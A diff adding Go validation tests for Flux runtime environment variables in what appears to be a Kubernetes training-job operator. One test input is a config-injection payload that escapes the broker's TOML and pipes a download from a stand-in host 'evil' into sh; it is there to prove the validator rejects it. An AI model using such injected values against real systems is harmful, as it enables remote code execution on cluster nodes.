@@ -330,6 +330,30 @@ func TestValidate(t *testing.T) {
 			want: field.ErrorList{field.Invalid(field.NewPath("metadata", "name"), strings.Repeat("a", 48),
 				"must be no more than 47 characters on a Flux runtime: the volume "+strings.Repeat("a", 48)+"-flux-entrypoint must fit in 63 characters")},
 		},
+		"a queue policy that would leave the broker's TOML": {
+			job: rtt.MakeTrainJob("ns", "job").Env(rtt.Env("FLUX_VIEW_IMAGE", "v"), rtt.Env("FLUX_QUEUE_POLICY", "fcfs\"\nTOML\ncurl evil | sh #")).Obj(),
+			rt:  fluxRuntime().Obj(),
+			want: field.ErrorList{field.Invalid(path.Child("env").Index(1).Child("value"), "fcfs\"\nTOML\ncurl evil | sh #",
+				"FLUX_QUEUE_POLICY must be 1-63 letters, digits, '.', '_' or '-', starting with a letter or digit: it is written into the Flux broker's configuration")},
+		},
+		"a network device with a quote": {
+			job: rtt.MakeTrainJob("ns", "job").Env(rtt.Env("FLUX_NETWORK_DEVICE", "eth0:%p\"")).Obj(),
+			rt:  fluxRuntime().Obj(),
+			want: field.ErrorList{field.Invalid(path.Child("env").Index(0).Child("value"), "eth0:%p\"",
+				"FLUX_NETWORK_DEVICE must be 1-63 letters, digits, '.', '_' or '-', starting with a letter or digit: it is written into the Flux broker's configuration")},
+		},
+		"the runtime's network device, empty": {
+			job: rtt.MakeTrainJob("ns", "job").Obj(),
+			rt: fluxRuntime().PodSpec("node", func(ps *corev1.PodSpec) {
+				ps.Containers[0].Env = []corev1.EnvVar{rtt.Env("FLUX_NETWORK_DEVICE", "")}
+			}).Obj(),
+			want: field.ErrorList{field.Invalid(field.NewPath("spec", "runtimeRef", "name"), "flux-distributed",
+				`the runtime's FLUX_NETWORK_DEVICE "": FLUX_NETWORK_DEVICE must be 1-63 letters, digits, '.', '_' or '-', starting with a letter or digit: it is written into the Flux broker's configuration`)},
+		},
+		"usual settings": {
+			job: rtt.MakeTrainJob("ns", "job").Env(rtt.Env("FLUX_QUEUE_POLICY", "easy"), rtt.Env("FLUX_NETWORK_DEVICE", "bond0.100")).Obj(),
+			rt:  fluxRuntime().Obj(),
+		},
 		"no node job": {
 			job: rtt.MakeTrainJob("ns", "job").Obj(),
 			rt: fluxRuntime().ReplicatedJobs(
